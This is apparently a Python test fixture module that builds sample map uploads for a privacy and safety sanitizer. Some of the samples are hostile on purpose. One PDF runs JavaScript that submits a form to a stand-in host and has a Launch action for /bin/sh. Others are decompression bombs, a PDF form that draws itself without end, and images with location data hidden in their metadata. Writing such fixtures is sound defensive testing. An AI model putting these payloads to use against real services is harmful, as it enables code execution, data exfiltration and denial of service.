"""Maps as people upload them, and as somebody with bad intentions would."""

import io
import struct
import zlib

import pikepdf
from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo

SECRET = b"14 Orchard Street"
"""What a file says of its maker: it must never come out at the other end."""


def png(size: tuple[int, int] = (400, 300), *, marked: bool = False) -> bytes:
    """A small map; `marked`: its metadata says where somebody lives."""
    picture = Image.new("RGB", size, "#f7f4ec")
    ImageDraw.Draw(picture).polygon([(50, 50), (350, 60), (300, 250)], outline="#942514", width=5)
    info = PngInfo()
    if marked:
        info.add_text("Comment", SECRET.decode())
    out = io.BytesIO()
    picture.save(out, "PNG", pnginfo=info)
    return out.getvalue()


def jpeg(*, marked: bool = False, turned: int = 1) -> bytes:
    """The same from a camera, which writes where it was; `turned` is its orientation."""
    picture = Image.open(io.BytesIO(png()))
    exif = Image.Exif()
    exif[0x0112] = turned
    if marked:
        exif[0x010E] = SECRET.decode()
        exif.get_ifd(0x8825)[2] = (51.0, 30.0, 0.0)
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=exif, comment=SECRET if marked else b"")
    return out.getvalue()


def pdf(*pages: str, size: tuple[int, int] = (595, 842)) -> bytes:
    """A PDF whose pages say these words, the first with a red area."""
    document = pikepdf.new()
    font = document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for words in pages or ("",):
        page = document.add_blank_page(page_size=size)
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        drawn = f"1 0 0 rg 100 400 200 150 re f BT /F1 12 Tf 72 700 Td 0 g ({words}) Tj ET"
        page.Contents = document.make_stream(drawn.encode("latin-1"))
    out = io.BytesIO()
    document.save(out, static_id=True)
    return out.getvalue()


def pdf_with_scripts() -> bytes:
    """A PDF that would run something, open something, and carries a file."""
    document = pikepdf.open(io.BytesIO(pdf("Mill Lane")))
    script = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1); this.submitForm('http://x')")
    )
    document.Root.OpenAction = document.make_indirect(script)
    document.Root.AA = pikepdf.Dictionary(WC=script)
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 500, 800],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh")),
    )
    document.pages[0].Annots = document.make_indirect(pikepdf.Array([link]))
    document.attachments["where.txt"] = SECRET
    document.docinfo["/Author"] = SECRET.decode()
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def locked_pdf() -> bytes:
    """A PDF that opens with a password alone."""
    document = pikepdf.open(io.BytesIO(pdf("Mill Lane")))
    out = io.BytesIO()
    document.save(out, encryption=pikepdf.Encryption(owner="owner", user="user"))
    return out.getvalue()


def png_of_size(width: int, height: int) -> bytes:
    """A PNG that says it is so large, in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        whole = kind + data
        return struct.pack(">I", len(data)) + whole + struct.pack(">I", zlib.crc32(whole))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 1_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def text_bomb() -> bytes:
    """A PNG whose comment unpacks to 200 MB."""
    bomb = b"Comment\x00\x00" + zlib.compress(b"a" * 200_000_000, 9)
    whole = b"zTXt" + bomb
    chunk = struct.pack(">I", len(bomb)) + whole + struct.pack(">I", zlib.crc32(whole))
    plain = png()
    return plain[:33] + chunk + plain[33:]


def stream_bomb() -> bytes:
    """A PDF whose page unpacks to 3 GB of drawing."""
    inner = zlib.compress(b"0 0 m 100 100 l S\n" * 3_000_000, 9)
    document = pikepdf.open(io.BytesIO(pdf("Mill Lane")))
    stream = pikepdf.Stream(document, zlib.compress(inner, 9))
    stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    document.pages[0].Contents = pikepdf.Array([document.make_indirect(stream)] * 60)
    out = io.BytesIO()
    document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def endless_pdf() -> bytes:
    """A PDF whose form draws itself, sixteen times over."""
    document = pikepdf.open(io.BytesIO(pdf("Mill Lane")))
    form = document.make_stream(b"/X Do " * 16)
    form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, [0, 0, 500, 500]
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))
    document.pages[0].Resources.XObject = pikepdf.Dictionary(X=form)
    document.pages[0].Contents = document.make_stream(b"/X Do " * 16)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()
